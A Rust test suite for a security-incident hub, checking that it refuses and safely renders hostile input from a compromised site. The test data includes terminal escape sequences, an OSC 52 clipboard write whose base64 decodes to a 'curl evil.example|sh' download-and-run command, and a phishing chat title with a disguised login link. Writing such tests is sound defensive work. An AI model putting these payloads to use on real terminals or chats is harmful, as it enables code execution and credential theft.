//! A compromised site (a raw escalation stream with a real site certificate, bypassing the
//! agent) sends what no honest agent would: numbers at the top of their range, terminal
//! escape sequences, times after year 9999, chat mentions. The hub refuses each at
//! conversion with an error naming the field, stays up for every other site, and the
//! operators' real `sirt-hub` commands render everything (escaped) without panicking.

use socfed_proto::pb::{self, hub_message, site_message};
use socfed_runtime::tls::{ExpectedServer, TlsFiles};
use socfed_tests::clients::{self, RawStream, hello, report};
use socfed_tests::fixture::{OperatorCli, Org};
use socfed_tests::sink::Sink;
use socfed_tests::{eventually, pki::TestPki, procs::binary};
use std::net::SocketAddr;
use std::process::Output;
use std::time::Duration;
use tonic::Code;
use ulid::Ulid;

/// Clears the screen, homes the cursor, prints a fake all-clear and writes the clipboard
/// (OSC 52), then a carriage return and a bidi override.
const HOSTILE: &str =
    "\x1b[2J\x1b[HALL CLEAR\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\rfine\u{202e}";

/// Runs the real `sirt-hub` as operator `files` against `hub`.
fn sirt_hub(hub: SocketAddr, files: &TlsFiles, args: &[&str]) -> anyhow::Result<Output> {
    OperatorCli::hub(hub, files.clone()).run(args)
}

/// `sirt-hub ARGS` succeeded and printed nothing a terminal would act on: no C0 control but
/// newline, no DEL, no C1 control, no bidi override.
fn renders_inert(hub: SocketAddr, files: &TlsFiles, args: &[&str]) -> anyhow::Result<String> {
    let out = sirt_hub(hub, files, args)?;
    anyhow::ensure!(
        out.status.success(),
        "sirt-hub {args:?} failed ({}): {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout)?;
    let live: Vec<char> = text
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    anyhow::ensure!(
        live.is_empty(),
        "sirt-hub {args:?} printed control characters {live:?}:\n{text:?}"
    );
    Ok(text)
}

fn paris_stream(hub: SocketAddr, pki: &TestPki) -> anyhow::Result<tonic::transport::Channel> {
    clients::channel(hub, &pki.site("paris")?, &pki.domain, ExpectedServer::Hub)
}

async fn send(stream: &RawStream, body: site_message::Body) -> anyhow::Result<()> {
    stream
        .tx
        .send(pb::SiteMessage { body: Some(body) })
        .await
        .map_err(|_| anyhow::anyhow!("stream closed"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn numbers_at_the_top_of_their_range_are_refused_and_the_hub_stays_up() -> anyhow::Result<()>
{
    let org = Org::new()?;
    let hub = org.hub(&["paris", "lyon"], "").await?;

    // The last sequence number, declaring every one before it dropped: the writer's
    // catch-up used to step past u64::MAX (a panic that stopped the hub, or a wrapped mark).
    let (mut s, _) = RawStream::open_welcomed(
        paris_stream(hub.addr, &org.pki)?,
        hello("paris", Ulid::new(), 1),
    )
    .await?;
    s.send_declaring(u64::MAX, u64::MAX - 1, report("p-max", "top of the range"))
        .await?;
    let refused = s.next_ack().await.expect_err("the sequence is refused");
    assert_eq!(refused.code(), Code::InvalidArgument, "{refused:?}");
    assert!(refused.message().contains("escalation.seq"), "{refused:?}");

    // Counters no outbox can hold: refused, the stream told which one.
    let (mut s, _) = RawStream::open_welcomed(
        paris_stream(hub.addr, &org.pki)?,
        hello("paris", Ulid::new(), 1),
    )
    .await?;
    send(
        &s,
        site_message::Body::Status(pb::SiteStatus {
            backlog: u64::MAX,
            oldest_unsent_age_ms: u64::MAX,
            refused_total: u64::MAX,
            dropped_total: u64::MAX,
        }),
    )
    .await?;
    let refused = s.next_ack().await.expect_err("the status is refused");
    assert_eq!(refused.code(), Code::InvalidArgument, "{refused:?}");
    assert!(refused.message().contains("status."), "{refused:?}");

    // A hello announcing a next sequence past the range is refused before the welcome.
    let far = RawStream::open_welcomed(
        paris_stream(hub.addr, &org.pki)?,
        hello("paris", Ulid::new(), u64::MAX),
    )
    .await
    .err()
    .expect("the hello is refused");
    assert_eq!(far.code(), Code::InvalidArgument, "{far:?}");

    // Another site is unaffected: the writer is alive.
    let lyon = org.site_channel(hub.addr, "lyon")?;
    let (mut l, _) = RawStream::open_welcomed(lyon, hello("lyon", Ulid::new(), 1)).await?;
    l.send(1, report("l-1", "fine")).await?;
    assert_eq!(l.next_ack().await?, 1);

    // The real `sirt-hub sites` renders, as a table and as JSON.
    let auditor = org.pki.operator("auditor")?;
    let table = renders_inert(hub.addr, &auditor, &["sites"])?;
    assert!(table.contains("paris") && table.contains("lyon"), "{table}");
    let json: serde_json::Value = serde_json::from_str(&renders_inert(
        hub.addr,
        &auditor,
        &["sites", "-o", "json"],
    )?)?;
    let paris = json
        .as_array()
        .and_then(|sites| sites.iter().find(|s| s["site"] == "paris"))
        .cloned()
        .unwrap_or_default();
    assert_eq!(paris["refused_total"], 0, "{json}");
    assert_eq!(paris["acked_through"], 0, "{json}");
    hub.stop().await?;
    // An authenticated site sending what no agent sends is a security event: audited.
    let refusals = socfed_tests::audit::refusals(&org.dir().join("hub-data"))?;
    for field in ["escalation.seq", "status.backlog"] {
        assert!(
            refusals
                .iter()
                .any(|r| r.who.ends_with("/site/paris") && r.reason.contains(field)),
            "{field} not audited: {refusals:?}"
        );
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn terminal_escapes_from_a_site_are_refused_and_never_become_an_incident()
-> anyhow::Result<()> {
    let org = Org::new()?;
    let hub = org.hub(&["paris"], "").await?;
    let (mut s, _) = RawStream::open_welcomed(
        paris_stream(hub.addr, &org.pki)?,
        hello("paris", Ulid::new(), 1),
    )
    .await?;
    let mut owner = report("p-2", "owner");
    owner.local_owner = "bob\x1b]52;c;aWQ=\x07".into();
    // An owner is a roster name: anything else (escapes included) is not one.
    let sent = [
        ("title", "control character", report("p-1", HOSTILE)),
        ("local_owner", "not a name", owner),
        (
            "local_incident_id",
            "control character",
            report("p-\x1b[31m3", "id"),
        ),
    ];
    for (seq, (_, _, r)) in (1..).zip(sent.iter()) {
        s.send(seq, r.clone()).await?;
    }
    // Kept for review and acknowledged (resending would not change it), each refusal naming
    // the field; nothing reaches the incidents.
    let notices = s.ack_through(3).await?;
    for (seq, (field, why, _)) in (1..).zip(sent.iter()) {
        let notice = notices
            .iter()
            .find(|n| n.seq == seq)
            .unwrap_or_else(|| panic!("no notice for {field}: {notices:?}"));
        assert_eq!(notice.kind, pb::ack_notice::Kind::Rejected as i32);
        assert!(
            notice.reason.starts_with(field) && notice.reason.contains(why),
            "{notice:?}"
        );
        assert!(!notice.reason.contains('\x1b'), "{notice:?}");
    }
    let mut op = org.operator(hub.addr, "auditor")?;
    assert!(clients::all_incidents(&mut op).await?.is_empty());
    // The review list shows the refusals, escaped.
    let conflicts = renders_inert(hub.addr, &org.pki.operator("auditor")?, &["conflicts"])?;
    assert!(conflicts.contains("control character"), "{conflicts}");
    hub.stop().await?;
    Ok(())
}

/// Writes an incident carrying `HOSTILE` text straight into a hub store, as a store written
/// before the hub refused such text would hold it.
fn store_hostile_incident(data_dir: &std::path::Path, pki: &TestPki) -> anyhow::Result<()> {
    use sirt_hub::ingest::apply::{Item, Offered};
    use socfed_proto::vocab::{IncidentReport, Severity, SiteId, Tlp};
    // The key the hub will find beside its TLS key, so its audit chain stays verifiable.
    let (key, _) = socfed_runtime::audit_key::load_or_create(
        &socfed_runtime::audit_key::path_for(&pki.hub().key),
    )?;
    let store = sirt_hub::store::HubStore::open(data_dir, sirt_hub::store::Durability::Flush, key)?;
    let report = IncidentReport {
        local_incident_id: "INC-\x1b[31m1".into(),
        revision: 1,
        title: HOSTILE.into(),
        description: String::new(),
        severity: Severity::High,
        tlp: Tlp::Amber,
        rule_id: String::new(),
        techniques: Vec::new(),
        indicators: Vec::new(),
        observed_at_ms: 1_700_000_000_000,
        local_owner: "bob\x1b]52;c;aWQ=\x07".into(),
        local_status: None,
    };
    let item = Item::Escalation {
        site: SiteId::parse("paris")?,
        epoch: Ulid::new(),
        seq: 1,
        dropped_before: 0,
        enqueued_at_ms: 1,
        offered: Offered::Valid(report),
    };
    sirt_hub::ingest::apply::apply(&store, &[item], socfed_proto::now_millis(), 86_400_000)?;
    store.commit(&store.sync_point()?)?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stored_escape_sequences_reach_no_terminal_through_any_hub_command() -> anyhow::Result<()> {
    let org = Org::new()?;
    store_hostile_incident(&org.dir().join("hub-data"), &org.pki)?;
    let hub = org.hub(&["paris"], "").await?;
    let auditor = org.pki.operator("auditor")?;

    let list = renders_inert(hub.addr, &auditor, &["incidents", "list"])?;
    assert!(list.contains("ALL CLEAR"), "{list}");
    let json: serde_json::Value = serde_json::from_str(&renders_inert(
        hub.addr,
        &auditor,
        &["incidents", "list", "-o", "json"],
    )?)?;
    // JSON stays faithful: a program reading it gets the stored value back.
    assert_eq!(json[0]["title"], HOSTILE, "{json}");
    let id = json[0]["id"].as_str().unwrap_or_default().to_string();
    let shown = renders_inert(hub.addr, &auditor, &["incidents", "show", &id])?;
    assert!(
        shown.contains("\\u{1b}[2J") && shown.contains("ALL CLEAR"),
        "{shown}"
    );
    let shown_json = renders_inert(
        hub.addr,
        &auditor,
        &["incidents", "show", &id, "-o", "json"],
    )?;
    assert!(shown_json.contains("\\u001b]52"), "{shown_json}");
    renders_inert(hub.addr, &auditor, &["sites"])?;
    renders_inert(hub.addr, &auditor, &["report", &id])?;
    hub.stop().await?;
    Ok(())
}

/// The first directive the hub sends on `stream`.
async fn next_directive(stream: &mut RawStream) -> anyhow::Result<pb::Directive> {
    loop {
        let message = tokio::time::timeout(Duration::from_secs(20), stream.inbound.message())
            .await
            .map_err(|_| anyhow::anyhow!("no directive within 20 s"))??;
        match message {
            Some(pb::HubMessage {
                body: Some(hub_message::Body::Directive(d)),
            }) => return Ok(d),
            Some(_) => {}
            None => anyhow::bail!("stream ended before a directive"),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hunt_hit_dated_after_year_9999_is_refused_and_hunt_status_renders() -> anyhow::Result<()>
{
    let org = Org::new()?;
    let hub = org
        .hub(
            &["paris"],
            "[[operators]]\nname = \"ines\"\nrole = \"ir-lead\"\n",
        )
        .await?;
    let (mut s, _) = RawStream::open_welcomed(
        paris_stream(hub.addr, &org.pki)?,
        hello("paris", Ulid::new(), 1),
    )
    .await?;
    let ines = org.pki.operator("ines")?;
    let hunt = clients::response(hub.addr, &ines, &org.pki.domain)?
        .start_hunt(pb::StartHuntRequest {
            indicators: vec!["ip:203.0.113.7".into()],
            sites: vec!["paris".into()],
            ..Default::default()
        })
        .await?
        .into_inner();
    let sweep = next_directive(&mut s).await?;
    let year_10000 = 253_402_300_800_000;
    send(
        &s,
        site_message::Body::DirectiveUpdate(pb::DirectiveUpdate {
            directive_id: sweep.directive_id.clone(),
            state: pb::DirectiveState::Running as i32,
            detail: "watching".into(),
            hits: vec![pb::HuntHit {
                indicator: "ipv4:203.0.113.7".into(),
                group_id: Ulid::new().to_string(),
                title: "beacon".into(),
                alert_count: 1,
                first_seen_ms: 1_700_000_000_000,
                last_seen_ms: year_10000,
                local_incident_id: String::new(),
            }],
            ..Default::default()
        }),
    )
    .await?;
    // Messages of a stream reach the writer in order: once this escalation is acknowledged,
    // the update before it has been applied or refused.
    s.send(1, report("p-1", "after the update")).await?;
    assert_eq!(s.next_ack().await?, 1);

    let table = renders_inert(hub.addr, &ines, &["hunt", "status", &hunt.hunt_id])?;
    assert!(!table.contains("10000-"), "{table}");
    let json: serde_json::Value = serde_json::from_str(&renders_inert(
        hub.addr,
        &ines,
        &["hunt", "status", &hunt.hunt_id, "-o", "json"],
    )?)?;
    assert_eq!(json["total_hits"], 0, "the hit is refused: {json}");
    hub.stop().await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_site_title_cannot_page_the_channel_or_disguise_a_link_in_chat() -> anyhow::Result<()> {
    let org = Org::new()?;
    let (sink, hook) = Sink::start().await?;
    let extra = format!(
        "[[operators]]\nname = \"ines\"\nrole = \"ir-lead\"\n[[operators]]\nname = \"carl\"\nrole = \"ciso\"\n[comms]\nretry_interval = \"200ms\"\n[[comms.webhooks]]\naudience = \"all\"\nurl = \"http://{hook}/hook/chat\"\n"
    );
    let hub = org.hub(&["paris"], &extra).await?;
    let (mut s, _) = RawStream::open_welcomed(
        paris_stream(hub.addr, &org.pki)?,
        hello("paris", Ulid::new(), 1),
    )
    .await?;
    let title = "<!channel> urgent: <http://evil.example/login|reset your password> @here [details](http://evil.example)";
    s.send(1, report("p-1", title)).await?;
    assert_eq!(s.next_ack().await?, 1);
    let mut op = org.operator(hub.addr, "ines")?;
    let incident = clients::all_incidents(&mut op)
        .await?
        .into_iter()
        .next()
        .ok_or_else(|| anyhow::anyhow!("no incident"))?
        .id;
    let comms = |who: &str| -> anyhow::Result<_> {
        Ok(pb::communications_client::CommunicationsClient::new(
            clients::channel(
                hub.addr,
                &org.pki.operator(who)?,
                &org.pki.domain,
                ExpectedServer::Hub,
            )?,
        ))
    };
    let draft = comms("ines")?
        .draft(pb::DraftCommunicationRequest {
            incident_id: incident.clone(),
            audience: "executives".into(),
            note: String::new(),
        })
        .await?
        .into_inner();
    comms("carl")?
        .decide(pb::DecideCommunicationRequest {
            incident_id: incident.clone(),
            communication_id: draft.communication_id.clone(),
            approve: true,
            reason: String::new(),
        })
        .await?;
    let posted = eventually("the chat message", Duration::from_secs(20), || {
        let received = sink.received();
        async move { received.into_iter().next() }
    })
    .await?;
    let text = posted["text"].as_str().unwrap_or_default();
    for live in ["<!channel>", "<http", "@here", "]("] {
        assert!(!text.contains(live), "{live:?} reaches the chat: {text}");
    }
    assert!(
        text.contains("&lt;!channel&gt;") && text.contains("evil.example/login"),
        "the title is shown, inert: {text}"
    );
    // Programs reading the payload still get the title as it is.
    assert_eq!(posted["socfed"]["incident_title"], title);
    hub.stop().await?;
    Ok(())
}

/// `binary ARGS` fails with exit 78 and names `needle` in its error exactly once.
fn error_names_once(binary_name: &str, args: &[&str], needle: &str) -> anyhow::Result<()> {
    let out = std::process::Command::new(binary(binary_name)?)
        .args(args)
        .output()?;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(78),
        "{binary_name} {args:?}: {stderr}"
    );
    assert_eq!(
        stderr.matches(needle).count(),
        1,
        "{binary_name} {args:?} should say {needle:?} once: {stderr}"
    );
    assert_eq!(
        stderr.matches("No such file or directory").count(),
        1,
        "{binary_name} {args:?} repeats the cause: {stderr}"
    );
    Ok(())
}

#[test]
fn a_failed_start_names_each_cause_once() -> anyhow::Result<()> {
    let tmp = tempfile::tempdir()?;
    let missing = tmp.path().join("missing.toml");
    let missing = missing.to_string_lossy();
    error_names_once("sirt-hub", &["serve", "--config", &missing], "missing.toml")?;
    error_names_once(
        "site-agent",
        &["serve", "--config", &missing],
        "missing.toml",
    )?;
    // A config whose CA file is missing.
    let pki = TestPki::create(&tmp.path().join("pki"), "corp.example")?;
    let config = socfed_tests::procs::write_hub_config(
        tmp.path(),
        &pki,
        "127.0.0.1:0".parse()?,
        &["paris"],
        "",
    )?;
    let text = std::fs::read_to_string(&config)?;
    let gone = tmp.path().join("gone-ca.crt");
    let text = text.replace(
        &format!("ca = {:?}", pki.hub().ca),
        &format!("ca = {gone:?}"),
    );
    std::fs::write(&config, text)?;
    error_names_once(
        "sirt-hub",
        &["serve", "--config", &config.to_string_lossy()],
        "gone-ca.crt",
    )?;
    Ok(())
}
